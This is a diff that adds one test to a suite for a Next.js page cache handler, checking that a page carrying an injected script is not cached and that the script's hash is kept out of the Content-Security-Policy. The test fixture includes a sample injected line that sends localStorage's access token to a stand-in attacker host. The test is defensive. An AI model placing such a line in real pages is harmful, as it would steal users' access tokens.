@@ -49,6 +49,18 @@ describe('the page cache handler (issue 22)', () => {
     expect(entry.headers['cache-control']).toBeUndefined();
   });
 
+  it('a page holding a script Next did not emit is not kept, and is sent without its hash for no cache to keep', async () => {
+    const error = vi.spyOn(console, 'error').mockImplementation(() => {});
+    const injected = 'fetch("//evil.example/?t="+localStorage.access_token)';
+    const entry = appPage(`<script>${flight}</script><p>review</p><script>${injected}</script>`);
+    expect(await store(entry)).toBe(false);
+    const policy = entry.headers['content-security-policy'];
+    expect(policy).toContain(sha(flight));
+    expect(policy).not.toContain(sha(injected));
+    expect(entry.headers['cache-control']).toMatch(/^private, no-cache, no-store/);
+    expect(error).toHaveBeenCalledWith(expect.stringContaining('/products/silk-hoops not kept'));
+  });
+
   it('a 404 page is sent with a Cache-Control that no shared cache keeps (Next would send s-maxage)', async () => {
     const entry = appPage(`<script>${flight}</script><h1>This piece is no longer in the shop</h1>`, 404);
     expect(await store(entry)).toBe(false);
